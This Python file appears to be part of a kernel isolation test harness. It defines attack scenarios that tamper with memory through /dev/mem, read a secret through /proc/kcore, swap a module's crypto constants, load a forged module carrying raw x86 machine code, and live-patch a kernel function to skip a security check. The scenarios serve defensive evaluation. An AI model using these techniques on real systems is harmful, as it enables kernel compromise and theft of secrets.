# SPDX-License-Identifier: GPL-2.0-only
"""Attacks on the kernel's memory and code, which a kernel thread does not withstand either."""

from __future__ import annotations

from os import O_NONBLOCK, O_RDWR
from typing import TYPE_CHECKING

from harness.attacker.tools.kcore import Kcore, module_symbol
from harness.attacker.tools.module import replace_function, replace_string
from harness.kernel.build.signing import unsigned
from harness.model.variants import VARIANTS
from harness.model.verdict import Effect, Verdict
from harness.scenarios.holes import on_both, on_isolated, on_kthread
from harness.scenarios.registry import BY_MODULE, BY_OPEN, scenario
from harness.witness.handler import FIRST_ROUNDS

if TYPE_CHECKING:
    from harness.attacker import Attacker
    from harness.witness.handler import Handler

ALL_OF_MEMORY = "/dev/mem holds all memory, also a kernel thread's; lockdown closes it"
MODULES = "root may load modules, which can change a kernel thread too; signatures close it"

_NOT_TRACED = {
    v.name: "the witness and its kernel thread are notrace code, which cannot be live-patched"
    for v in VARIANTS.values()
    if v.is_thread
}
_PATCH = "/sys/kernel/livepatch/livepatch_sample"


@scenario(
    effect=Effect.INTEGRITY,
    surface="devmem-kmem-port-iopl",
    through="write_mem",
    answers=("L3", "C15"),
    needs=("DEVMEM", "!STRICT_DEVMEM"),
    whole_kernel=True,
    holes=on_both(Verdict.TAMPERED, ALL_OF_MEMORY),
    lockdown=BY_OPEN,
)
def dev_mem(attacker: Attacker, handler: Handler) -> None:
    """Overwrite the handler's state in physical memory through /dev/mem."""
    with attacker.open("/dev/mem", O_RDWR) as memory:
        memory.pwrite(b"\xff" * 32, handler.physical("chain"))


@scenario(
    effect=Effect.INTEGRITY,
    surface="module-replace",
    answers=("L3", "C15"),
    whole_kernel=True,
    reach="security_kernel_read_file",
    target="start",
    holes=on_isolated(
        Verdict.DISRUPTED, "the manager refuses a blob that it does not know, so no handler starts"
    )
    | on_kthread(Verdict.TAMPERED, MODULES),
)
def module_replaced(attacker: Attacker, handler: Handler) -> None:
    """Unload the loader and put a module with other code in its place."""
    path = f"/lib/modules/{handler.loader}.ko"
    with attacker.setup():
        module = unsigned(attacker.read_file(path))
        if FIRST_ROUNDS not in module:
            raise LookupError("the module has no round constants to change")
        attacker.write_file(path, module.replace(FIRST_ROUNDS, bytes(len(FIRST_ROUNDS))))
    attacker.syscall("delete_module", handler.loader, O_NONBLOCK)


@scenario(
    effect=Effect.CONFIDENTIALITY,
    surface="kcore-kexec-acpi-tables-efi-mmiotrace",
    answers=("L3", "C15"),
    reach="read_kcore_iter",
    target="system",
    holes=on_both(
        Verdict.LEAKED,
        "/proc/kcore holds all memory, also a kernel thread's; lockdown=confidentiality closes it",
    ),
)
def kcore(attacker: Attacker, handler: Handler) -> None:
    """Read the secret from the kernel's memory through /proc/kcore."""
    memory = Kcore(attacker)
    address = module_symbol(attacker, handler.loader, "secret")
    if address is None:  # the handler is a process, and holds the secret in its own memory
        address = memory.direct(handler.physical("secret"))
    attacker.show(memory.read(address, 32))


@scenario(
    effect=Effect.INTEGRITY,
    surface="module-livepatch-kprobe-module",
    through="load_module",
    answers=("L3", "C15"),
    whole_kernel=True,
    holes=on_both(Verdict.TAMPERED, MODULES),
    lockdown=BY_MODULE,
)
def module_code(attacker: Attacker, handler: Handler) -> None:
    """Load a module of the attacker's. Its code overwrites the handler's state."""
    target = Kcore(attacker).direct(handler.physical("chain"))
    module = attacker.read_file("/lib/modules/sample_mgr.ko")
    # movabs $target, %rdi; mov $32, %ecx; mov $0xff, %al; rep stosb; xor %eax, %eax; ret
    code = (
        b"\x48\xbf" + target.to_bytes(8, "little") + bytes.fromhex("b920000000 b0ff f3aa 31c0 c3")
    )
    forged = replace_function(module, "init_module", code)
    attacker.syscall("init_module", forged, len(forged), "")


@scenario(
    effect=Effect.INTEGRITY,
    surface="module-livepatch-kprobe-module",
    through="klp_enable_patch",
    answers=("L3", "C15"),
    whole_kernel=True,
    needs=("SAMPLE_LIVEPATCH",),
    not_applicable=_NOT_TRACED,
    holes=on_isolated(Verdict.TAMPERED, MODULES),
    lockdown=BY_MODULE,
)
def livepatch_code(attacker: Attacker, handler: Handler) -> None:
    """Live-patch umd_send_recv() so that it returns 0 without asking the handler."""
    module = attacker.read_file("/lib/modules/livepatch_sample.ko")
    module = replace_string(module, "cmdline_proc_show", "umd_send_recv")
    # xor %eax, %eax; ret
    forged = replace_function(module, "livepatch_cmdline_proc_show", bytes.fromhex("31c0 c3"))
    attacker.syscall("init_module", forged, len(forged), "")
    # Without force, threads are patched while they sleep, by an unwinder that this kernel lacks.
    if attacker.read_file(f"{_PATCH}/transition").strip() != b"0":
        attacker.write_file(f"{_PATCH}/force", b"1")
